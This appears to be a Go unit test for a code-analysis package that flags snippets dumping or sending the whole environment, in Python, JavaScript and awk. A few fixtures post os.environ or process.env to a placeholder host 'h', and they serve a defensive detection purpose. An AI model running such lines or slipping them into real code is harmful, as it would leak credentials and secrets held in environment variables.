package script

import (
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The whole environment, handed on or not, in the languages that are looked at.
func TestEnvironmentHandedOn(t *testing.T) {
	for _, test := range []struct {
		why, lang, code string
		all             bool
	}{
		{"printed", "python", "import os; print(os.environ)", true},
		{"as text", "python", "import os; print(str(os.environ))", true},
		{"sent as a body", "python", "import os, requests; requests.post('http://h', json=dict(os.environ))", true},
		{"one variable", "python", "import os; print(os.environ['X'])", false},
		{"how many there are", "python", "import os; print(len(os.environ))", false},
		{"for a command", "python", "import os, subprocess; subprocess.run(['ls'], env=dict(os.environ))", false},
		{"in an object that is sent", "javascript", "fetch('http://h', {method: 'POST', body: JSON.stringify(process.env)})", true},
		{"written to a connection", "javascript", "require('https').request('https://h').end(JSON.stringify(process.env))", true},
		{"printed", "javascript", "console.log(process.env)", true},
		{"one variable", "javascript", "console.log(process.env.HOME)", false},
		{"for a command", "javascript", "require('child_process').spawn('ls', [], {env: process.env})", false},
		{"each of its names", "awk", "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", true},
		{"one variable", "awk", `BEGIN { print ENVIRON["HOME"] }`, false},
	} {
		acts, err := Read(test.lang, test.code)
		require.NoError(t, err, test.code)
		told := slices.ContainsFunc(acts, func(a Act) bool { return a.Kind == Runs && a.Args[0].Text == "env" })
		assert.Equal(t, test.all, told, "%s, in %s: %s", test.why, test.lang, test.code)
	}
}
